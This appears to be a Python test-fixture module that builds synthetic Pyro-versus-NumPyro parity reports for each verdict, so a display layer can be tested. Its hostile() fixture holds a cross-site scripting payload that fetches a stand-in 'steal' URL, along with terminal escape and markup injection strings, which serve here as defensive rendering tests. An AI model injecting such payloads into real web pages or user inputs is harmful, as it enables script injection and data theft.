"""Made-up reports of every verdict, as real as a check would leave them, for the tests of what a person sees."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
from scipy.special import softmax

from ppl_parity.data import load_data
from ppl_parity.findings import Finding, Report, RungResult, worst
from ppl_parity.report.posteriors import Posteriors
from ppl_parity.statistics.summary import Row, Summary

SITES = ("theta", "beta", "z", "x")
SETTINGS = {
    "seed": 0,
    "level": "standard",
    "false_alarm": 0.01,
    "margin": 0.15,
    "budget": 180.0,
    "num_points": 24,
    "keep_going": False,
}
ENVIRONMENT = {
    "machine": {"cpu": "2 cores, AVX-512", "memory_gb": 16},
    "pyro": {"python": "3.11.9", "pyro-ppl": "1.9.1", "torch": "2.13.0", "device": "cpu"},
    "numpyro": {"python": "3.11.9", "numpyro": "0.22.0", "jax": "0.10.0", "device": "cpu", "x64": True},
}


def rung(name, seconds, *findings):
    """A rung whose verdict is the worst of its findings'."""
    return RungResult(name, worst(each.verdict for each in findings), seconds, tuple(findings))


def report(pair, *rungs, posteriors=None, **settings):
    """A report whose verdict is the worst of its rungs'."""
    verdict = worst(each.verdict for each in rungs)
    return Report(pair, verdict, rungs, SETTINGS | settings, ENVIRONMENT, posteriors)


def both(names, scale=1.0, trouble=()):
    """Both posteriors of scalars, as NUTS would leave them; of the first the means are far apart."""
    rows = [Row(name, 0.3 * i, scale, 0.02, 1900.0, 1700.0, 1.001, False) for i, name in enumerate(names)]
    moved = [replace(rows[0], mean=rows[0].mean + scale), *rows[1:]]
    summaries = [Summary(tuple(side), None, {"z": 5000}, 4, 500) for side in (rows, moved)]
    return Posteriors(*summaries, named=(), troubles={"pyro": [], "numpyro": list(trouble)})


def structure():
    return rung(
        "structure",
        0.31,
        *(
            Finding("same", "site", f"Both have {site}, of the same shape and support.", site)
            for site in SITES
        ),
        Finding(
            "same",
            "plate",
            "Pyro writes the rows as a plate, NumPyro as to_event(1); the density below is the same.",
            "x",
            notable=True,
        ),
    )


def density():
    rng = np.random.default_rng(1)
    gaps = 4e-15 * rng.normal(size=272)
    rows = {"plot": "rows", "difference": gaps, "points": 24}
    worst_row = int(np.argmax(np.abs(gaps)))
    words = "The log probabilities agree at 24 points to rounding."
    return rung(
        "density",
        0.84,
        *(
            Finding("same", "log prob", words, site, size, 1e-9, "tail 2", numbers={"points": 24})
            for site, size in (("theta", 8.9e-16), ("beta", 7.1e-15))
        ),
        Finding(
            "same", "log prob", words, "x", abs(gaps[worst_row]), 1e-9, "tail 2", (worst_row,), numbers=rows
        ),
        Finding("same", "log joint", words, None, 3e-14, 1e-9, "tail 2", numbers={"points": 24}),
    )


def dynamics(parted=None):
    rng = np.random.default_rng(2)
    steps = np.arange(64)
    energy = 0.12 * np.sin(steps / 5.0) ** 2 + 0.03 * np.sin(steps / 2.1)
    gap = 1e-15 * 1.12**steps * (1 + rng.random(64))
    if parted is not None:
        gap = gap + np.where(steps >= parted, 2e-3 * np.clip(steps - parted + 1.0, 0, None) ** 1.5, 0)
    numbers = {
        "plot": "energy",
        "steps": steps,
        "pyro": energy - energy[0],
        "numpyro": energy - energy[0] + gap,
        "tolerance": 1e-13 * 1.2**steps,
        "parted": parted,
        "step_size": 0.05,
    }
    if parted is None:
        words = "The energies stay together for 64 leapfrog steps, within what rounding allows."
        return rung(
            "dynamics", 1.4, Finding("same", "energy", words, None, float(gap.max()), 1e-8, numbers=numbers)
        )
    words = f"The energies part at leapfrog step {parted}, by {gap[parted]:.3g} nats."
    hint = "the gradients differ where tau is small: a clamp on one side only."
    return rung(
        "dynamics",
        1.4,
        Finding(
            "different",
            "energy",
            words,
            None,
            float(gap[parted]),
            1e-8,
            "near the mode",
            hint=hint,
            numbers=numbers,
        ),
    )


def posterior(shift=0.0, resolution=0.11, verdict="same"):
    rng = np.random.default_rng(3)
    findings = []
    for i, (name, index, centre, spread) in enumerate(
        [
            ("theta", (0,), 0.64, 0.03),
            ("beta", (0, 0), 0.71, 0.05),
            ("beta", (1, 1), -1.2, 0.07),
            ("tau", None, 0.4, 0.3),
        ]
    ):
        moved = shift if i == 3 else 0.0
        one, two = centre + spread * rng.normal(size=(2, 900))
        two = two + moved * spread
        if name == "tau":
            one, two = np.exp(one), np.exp(two)
        gap = float(abs(two.mean() - one.mean()) / one.std())
        said = verdict if i == 3 else "same"
        words = {
            "same": f"The means differ by {gap:.2f} posterior sd, and the 99 % interval lies inside the margin 0.15.",
            "different": f"The means differ by {gap:.2f} posterior sd, 14 times the Monte Carlo error.",
            "unresolved": f"The means differ by {gap:.2f} posterior sd, and the interval reaches past the margin 0.15.",
        }[said]
        numbers = {
            "plot": "posterior",
            "pyro": one,
            "numpyro": two,
            "unit": "posterior sd",
            "ratio": (1.11, 1.12, 1.1, 1.17)[i],
            "r_hat": [1.002, 1.004],
            "ess_bulk": [912.0, 1204.5],
        }
        findings.append(Finding(said, "mean", words, name, gap, resolution, index=index, numbers=numbers))
    return rung("posterior", 48.2, *findings)


def assignments():
    x = load_data("old-faithful").x
    means = np.array([[-1.27, -1.2], [0.71, 0.67]])
    logits = -((x[:, None] - means) ** 2).sum(-1) / (2 * 0.4**2)
    r = softmax(logits, axis=1)
    both = r[:90] @ r[:90].T
    noise = 0.02 * np.random.default_rng(4).normal(size=both.shape)
    noisy = np.clip(both + (noise + noise.T) / 2, 0, 1)
    mixture = {
        "plot": "mixture",
        "x": x,
        "beta_pyro": means,
        "beta_numpyro": means + 0.02,
        "noise_scale": 0.4,
        "columns": ["eruptions", "waiting"],
    }
    pairs = "The probability that two rows share a component differs by 0.04 at most."
    return rung(
        "assignments",
        6.0,
        Finding(
            "same",
            "co-clustering",
            pairs,
            "z",
            0.04,
            0.06,
            index=(12, 80),
            numbers={"plot": "coclustering", "pyro": both, "numpyro": noisy},
        ),
        Finding(
            "same", "components", "The components lie in the same places.", "z", 0.02, 0.06, numbers=mixture
        ),
    )


def calibration():
    rng = np.random.default_rng(5)
    names = ["theta[0]", "beta[0, 0]", "beta[0, 1]", "beta[1, 0]", "beta[1, 1]", "log likelihood"]
    drawn = {name: rng.integers(0, 100, size=120) for name in names}
    drawn["beta[1, 1]"] = np.floor(100 * rng.beta(2.2, 1.4, size=120))
    numbers = {"plot": "ranks", "ranks": drawn, "num_ranks": 99}
    words = "120 fits by NumPyro of data simulated in Pyro: the ranks of beta[1, 1] are not uniform."
    return rung(
        "calibration", 140.0, Finding("different", "ranks", words, "beta", 0.21, 0.15, numbers=numbers)
    )


def same():
    """The shipped mixture, all the way up."""
    gradient = Finding(
        "same", "gradient", "The gradients agree at 24 points.", None, 2e-13, 1e-8, numbers={"points": 24}
    )
    return report(
        "mixture (Old Faithful)",
        structure(),
        density(),
        rung(
            "enumeration",
            0.4,
            Finding("same", "log density", "Summing z out gives the same.", None, 5e-14, 1e-9),
        ),
        rung("gradient", 0.9, gradient),
        rung("transform", 0.2, Finding("same", "log abs det Jacobian", "They agree.", "theta", 4e-15, 1e-10)),
        dynamics(),
        posterior(),
        assignments(),
    )


def different():
    """A wrong port that stops at the density."""
    gaps = np.log(2) - 0.5 * np.random.default_rng(6).normal(size=200) ** 2
    row = int(np.argmax(np.abs(gaps)))
    size = float(abs(gaps[row]))
    numbers = {"plot": "rows", "difference": gaps, "points": 24, "unit": "nats", "slope": -0.5}
    detail = (
        f"The log probability of y differs by {size:.3g} nats at row {row}, by another amount in every row."
    )
    hint = "NumPyro's scale is Pyro's variance: the difference is what Normal(mu, s) against Normal(mu, s**2) makes."
    known = "HalfCauchy of tau differs by the constant log 2; the posterior is the same."
    return report(
        "gallery/eight_schools.py",
        structure(),
        rung(
            "density",
            0.7,
            Finding(
                "same",
                "log prob",
                known,
                "tau",
                0.693,
                1e-9,
                hint="normalised on one side only.",
                notable=True,
            ),
            Finding(
                "different",
                "log prob",
                detail,
                "y",
                3.41,
                1e-9,
                "prior 3 of pyro",
                (17,),
                hint,
                numbers=numbers,
            ),
        ),
        rungs=["structure", "density", "enumeration", "gradient", "transform", "dynamics", "posterior"],
    )


def unresolved():
    """Too few draws to say."""
    return report("pkg.models.radon", structure(), density(), posterior(0.1, 0.42, "unresolved"))


def everything():
    """A climb that kept going, with each kind of picture."""
    rungs = [
        structure(),
        density(),
        dynamics(21),
        posterior(0.6, 0.11, "different"),
        assignments(),
        calibration(),
    ]
    posteriors = both(["theta[0]", "beta[0, 1]"], trouble=["3 of 2000 draws diverged."])
    return report("kitchen sink", *rungs, posteriors=posteriors, keep_going=True)


def hostile():
    """Names and values that a user's model might hold, and numbers that are none."""
    evil = "</title><script>fetch('https://example.org/steal')</script><img src=x onerror=alert(1)>"
    draws = {
        "plot": "posterior",
        "pyro": [0.1, float("nan"), 0.4, 0.2],
        "numpyro": [0.2, float("inf"), 0.3, 0.1],
    }
    nan, inf = float("nan"), float("inf")
    return report(
        evil,
        rung(
            "density",
            0.1,
            Finding(
                "different",
                f"log prob of {evil}",
                evil,
                f"$a_b$ {evil}",
                nan,
                -inf,
                evil,
                (0,),
                evil,
                True,
                numbers=draws,
            ),
            Finding(
                "same",
                "log prob",
                "\x1b[31m[bold]odd[/bold]\n\tname",
                "r\x1b[0m[red]",
                inf,
                numbers={"value": -inf},
            ),
            Finding("unresolved", "nothing to draw", evil, None, numbers={"plot": "rows", "difference": []}),
            Finding("unresolved", "unknown plot", evil, None, numbers={"plot": evil}),
        ),
        posteriors=both([evil, "\x1b[31mb"], nan, [evil]),
        note=evil,
        nested={evil: [evil, nan]},
    )


EVERY = {each.__name__: each for each in (same, different, unresolved, everything, hostile)}
